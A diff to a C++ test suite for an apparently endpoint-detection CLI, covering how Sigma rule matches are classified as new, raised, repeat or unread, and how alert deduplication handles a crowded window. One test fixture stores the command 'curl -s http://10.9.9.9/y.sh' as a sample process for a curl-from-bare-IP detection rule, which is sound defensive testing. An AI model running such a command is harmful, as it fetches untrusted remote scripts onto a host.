@@ -3,7 +3,8 @@
 // insert_alerts). A rule file is loaded as the agent loads it, its query
 // runs once on the store, and each row is put to the agent's dedup: `new`
 // when no alert with its dedup key was raised within alerts.dedup_window,
-// `raised` when one was, `repeat` when an earlier row has its key. Exit
+// `raised` when one was, `repeat` when an earlier row has its key; a Sigma
+// row of an event older than a newly deployed rule reads, `unread`. Exit
 // codes as grep's: 0 matched, 1 nothing matched, 2 a rejected rule.
 
 #include "cli_store_fixture.hpp"
@@ -110,7 +111,25 @@ TEST_F(CliRuleTrial, EachRowIsNewAlreadyRaisedOrARepeatAsTheAgentsDedupSays) {
   EXPECT_TRUE(has(short_window.err, "3 matched, 2 new, 0 already raised, 1 repeating")) << short_window.err;
 }
 
-TEST_F(CliRuleTrial, ASigmaRuleReadsEveryStoredEvent) {
+// The query reads every stored event, but the agent starts a newly
+// deployed Sigma rule at the last scan's events (at least the last two
+// minutes): a row of an older event is `unread`, never raised. Before, the
+// ten-minute-old exec below was called `new`.
+TEST_F(CliRuleTrial, ASigmaRuleReadsEveryStoredEventAndSaysWhichTheAgentWouldNotRead) {
+  {
+    auto store = de::Store::open({.path = db_});
+    ASSERT_TRUE(store) << store.error();
+    de::ProcessRecord r;
+    r.pid = 4303;
+    r.parent = 1;
+    r.name = "curl";
+    r.path = "/usr/bin/curl";
+    r.cmdline = "curl -s http://10.9.9.9/y.sh";
+    r.start_time = now_ - 40;
+    auto a = (*store)->append_events(std::vector<de::ProcessEvent>{
+        {de::EventKind::exec, de::EventSource::ebpf, now_ - 30, r}});  // since the last scan (none): read
+    ASSERT_TRUE(a) << a.error();
+  }
   const fs::path file = rule("curl-ip.yml",
                              "title: curl from a bare IP address\n"
                              "id: 8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e\n"
@@ -123,14 +142,49 @@ TEST_F(CliRuleTrial, ASigmaRuleReadsEveryStoredEvent) {
   EXPECT_EQ(r.code, 0) << r.err;
   const auto doc = nlohmann::json::parse(r.out, nullptr, false);
   ASSERT_TRUE(doc.is_array()) << r.out;
-  ASSERT_EQ(doc.size(), 1u) << r.out;  // 4301's exec (process_creation: not its start event)
-  EXPECT_EQ(doc[0]["alert"], "new");
+  ASSERT_EQ(doc.size(), 2u) << r.out;  // 4301's exec (process_creation: not its start event), 4303's
+  EXPECT_EQ(doc[0]["alert"], "unread");
   EXPECT_EQ(doc[0]["row"]["pid"], 4301);
   EXPECT_EQ(doc[0]["dedup_key"], fmt::format("8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e|pid=4301|start_time={}|event_id={}",
                                              started_, doc[0]["row"].value("event_id", -1)));
-  EXPECT_TRUE(has(r.err, "rule 8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e (Sigma, every stored event read): 1 matched, 1 new, "
-                         "0 already raised\n"))
+  EXPECT_EQ(doc[1]["alert"], "new");
+  EXPECT_EQ(doc[1]["row"]["pid"], 4303);
+  EXPECT_TRUE(has(r.err, "rule 8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e (Sigma, every stored event read): 2 matched, 1 new, "
+                         "0 already raised, 1 of events older than a newly deployed Sigma rule reads (it starts at the "
+                         "last scan's events: never raised)\n"))
       << r.err;
+  Outcome table = cli({"rules", "test", file.string()});
+  EXPECT_EQ(table.code, 0) << table.err;
+  EXPECT_TRUE(has(table.out, "\nunread (older event) ")) << table.out;
+}
+
+// More dedup keys raised within the window than rules.max_rows: the rows'
+// own keys are looked up, so 4302's alert a minute ago is still found.
+// Before, the window's keys were read oldest first under max_rows and the
+// newest cut without a word: 4302's row was called `new`.
+TEST_F(CliRuleTrial, ARaisedRowIsFoundHoweverManyOtherKeysTheWindowHolds) {
+  {
+    auto store = de::Store::open({.path = db_});
+    ASSERT_TRUE(store) << store.error();
+    std::vector<de::Alert> others;
+    for (int i = 0; i < 20; ++i)
+      others.push_back({.rule_id = "curl-any", .rule_name = "curl", .severity = de::Severity::low, .tags = {},
+                        .row_json = "{}", .host = "h", .time = now_ - 600 + i,
+                        .dedup_key = fmt::format("curl-any|pid={}|start_time=1", 9000 + i)});
+    auto i = (*store)->insert_alerts(others);
+    ASSERT_TRUE(i) << i.error();
+  }
+  const fs::path config = dir_.path() / "config.yaml";
+  write_file(config, fmt::format("database: {{ path: {} }}\nrules: {{ max_rows: 5 }}\n", db_.string()));
+  const fs::path file = rule("curl-any.yaml", kNative);
+  Outcome r = run_cli({"--config", config.string(), "rules", "test", file.string(), "--json"}, dir_.path());
+  EXPECT_EQ(r.code, 0) << r.err;
+  const auto doc = nlohmann::json::parse(r.out, nullptr, false);
+  ASSERT_TRUE(doc.is_array()) << r.out;
+  ASSERT_EQ(doc.size(), 3u) << r.out;
+  EXPECT_EQ(doc[2]["row"]["pid"], 4302);
+  EXPECT_EQ(doc[2]["alert"], "raised") << r.out;
+  EXPECT_EQ(doc[2]["raised_at"], now_ - 60);
 }
 
 TEST_F(CliRuleTrial, NothingMatchedExitsOne) {
